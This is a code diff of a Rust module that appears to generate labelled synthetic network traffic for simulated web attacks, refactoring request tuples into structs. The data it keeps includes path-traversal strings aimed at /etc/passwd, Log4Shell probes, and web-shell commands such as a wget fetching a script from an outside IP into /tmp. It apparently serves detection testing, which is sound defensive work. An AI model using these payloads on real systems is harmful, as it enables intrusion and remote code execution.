@@ -2,7 +2,7 @@
 //! traversal, Log4Shell JNDI lookups, and a web-shell upload and use
 //! (T1505.003).
 
-use crate::background::group;
+use crate::background::{group, Group};
 use crate::engine::Source;
 use crate::labels::{Cidr, Label};
 use crate::net::Host;
@@ -51,24 +51,54 @@ pub const TRAVERSAL: [&str; 10] = [
     "/..%252f..%252f..%252fetc/passwd",
 ];
 
+/// One attack request and the status the server answers with.
+struct Req {
+    method: &'static str,
+    uri: String,
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+    status: u16,
+}
+
+impl Req {
+    fn get(uri: String, headers: Vec<(String, String)>, status: u16) -> Req {
+        Req {
+            method: "GET",
+            uri,
+            headers,
+            body: Vec::new(),
+            status,
+        }
+    }
+}
+
+/// The connections of an attack, the attacker and the target.
+struct Attack {
+    items: Group,
+    attacker: Host,
+    target: Host,
+}
+
 fn exploit_session(
     ctx: &Ctx<'_>,
     p: &Params,
     rng: &mut Rng,
-    requests: Vec<(String, String, Vec<(String, String)>, Vec<u8>, u16)>,
+    requests: Vec<Req>,
     per_conn: usize,
     gap_ms: u64,
-) -> Result<(Vec<(u64, Box<dyn Source>)>, Host, Host), ScenarioError> {
+) -> Result<Attack, ScenarioError> {
     let a = Host::external(p.ip("attacker")?, 64, 16);
     let t_host = ctx.host(p.ip("target")?);
     let host = p.str("host").to_string();
     let rtt = rng.range(150, 260) * MS;
     let mut t = p.start(ctx)?;
-    let mut items: Vec<(u64, Box<dyn Source>)> = Vec::new();
+    let mut items: Group = Vec::new();
     for chunk in requests.chunks(per_conn.max(1)) {
         let mut ex = Vec::new();
-        for (j, (method, uri, headers, body, status)) in chunk.iter().enumerate() {
-            let hdrs: Vec<(&str, &str)> = headers
+        for (j, r) in chunk.iter().enumerate() {
+            let (method, uri, body, status) = (r.method, &r.uri, &r.body, &r.status);
+            let hdrs: Vec<(&str, &str)> = r
+                .headers
                 .iter()
                 .map(|(k, v)| (k.as_str(), v.as_str()))
                 .collect();
@@ -109,7 +139,11 @@ fn exploit_session(
         ));
         t += dur + rng.range(100, 800) * MS;
     }
-    Ok((items, a, t_host))
+    Ok(Attack {
+        items,
+        attacker: a,
+        target: t_host,
+    })
 }
 
 macro_rules! params {
@@ -125,22 +159,16 @@ macro_rules! params {
     }};
 }
 
-fn finish(
-    s: &dyn Scenario,
-    p: &Params,
-    items: Vec<(u64, Box<dyn Source>)>,
-    a: Host,
-    t: Host,
-) -> (Box<dyn Source>, Label) {
+fn finish(s: &dyn Scenario, p: &Params, a: Attack) -> (Box<dyn Source>, Label) {
     let l = label(
         s,
         p,
-        vec![Cidr::host(a.ip)],
-        vec![Cidr::host(t.ip)],
+        vec![Cidr::host(a.attacker.ip)],
+        vec![Cidr::host(a.target.ip)],
         Some(80),
         "tcp",
     );
-    (group(items), l)
+    (group(a.items), l)
 }
 
 impl Scenario for WebSqli {
@@ -179,17 +207,15 @@ impl Scenario for WebSqli {
             .map(|i| {
                 let uri = format!("/tin-tuc.php?id={}", SQLI[i % SQLI.len()]);
                 let status = if i % 4 == 3 { 500 } else { 200 };
-                (
-                    "GET".to_string(),
+                Req::get(
                     uri,
                     vec![("User-Agent".to_string(), ua.to_string())],
-                    Vec::new(),
                     status,
                 )
             })
             .collect();
-        let (items, a, t) = exploit_session(ctx, p, &mut rng, reqs, 10, 300)?;
-        Ok(finish(self, p, items, a, t))
+        let a = exploit_session(ctx, p, &mut rng, reqs, 10, 300)?;
+        Ok(finish(self, p, a))
     }
 }
 
@@ -228,17 +254,15 @@ impl Scenario for WebTraversal {
         let reqs = (0..n)
             .map(|i| {
                 let status = *[404u16, 400, 404, 200].get(i % 4).unwrap_or(&404);
-                (
-                    "GET".to_string(),
+                Req::get(
                     TRAVERSAL[i % TRAVERSAL.len()].to_string(),
                     vec![("User-Agent".to_string(), ua.to_string())],
-                    Vec::new(),
                     status,
                 )
             })
             .collect();
-        let (items, a, t) = exploit_session(ctx, p, &mut rng, reqs, 8, 400)?;
-        Ok(finish(self, p, items, a, t))
+        let a = exploit_session(ctx, p, &mut rng, reqs, 8, 400)?;
+        Ok(finish(self, p, a))
     }
 }
 
@@ -310,17 +334,11 @@ impl Scenario for WebLog4shell {
                         ],
                     ),
                 };
-                (
-                    "GET".to_string(),
-                    uri,
-                    headers,
-                    Vec::new(),
-                    if i % 2 == 0 { 200 } else { 400 },
-                )
+                Req::get(uri, headers, if i % 2 == 0 { 200 } else { 400 })
             })
             .collect();
-        let (items, a, t) = exploit_session(ctx, p, &mut rng, reqs, 1, 500)?;
-        Ok(finish(self, p, items, a, t))
+        let a = exploit_session(ctx, p, &mut rng, reqs, 1, 500)?;
+        Ok(finish(self, p, a))
     }
 }
 
@@ -359,20 +377,14 @@ impl Scenario for WebShellUpload {
             v
         };
         let mut reqs = vec![
-            (
-                "GET".to_string(),
-                "/upload.php".to_string(),
-                h(None),
-                Vec::new(),
-                200,
-            ),
-            (
-                "POST".to_string(),
-                "/upload.php".to_string(),
-                h(Some(format!("multipart/form-data; boundary={boundary}"))),
-                body.into_bytes(),
-                200,
-            ),
+            Req::get("/upload.php".to_string(), h(None), 200),
+            Req {
+                method: "POST",
+                uri: "/upload.php".to_string(),
+                headers: h(Some(format!("multipart/form-data; boundary={boundary}"))),
+                body: body.into_bytes(),
+                status: 200,
+            },
         ];
         for cmd in [
             "id",
@@ -382,15 +394,9 @@ impl Scenario for WebShellUpload {
             "ls%20-la%20/var/www/html",
             "wget%20http%3A%2F%2F5.188.206.14%2Fx.sh%20-O%20/tmp/x.sh",
         ] {
-            reqs.push((
-                "GET".to_string(),
-                format!("/uploads/cmd.php?c={cmd}"),
-                h(None),
-                Vec::new(),
-                200,
-            ));
+            reqs.push(Req::get(format!("/uploads/cmd.php?c={cmd}"), h(None), 200));
         }
-        let (items, a, t) = exploit_session(ctx, p, &mut rng, reqs, 8, 3_000)?;
-        Ok(finish(self, p, items, a, t))
+        let a = exploit_session(ctx, p, &mut rng, reqs, 8, 3_000)?;
+        Ok(finish(self, p, a))
     }
 }
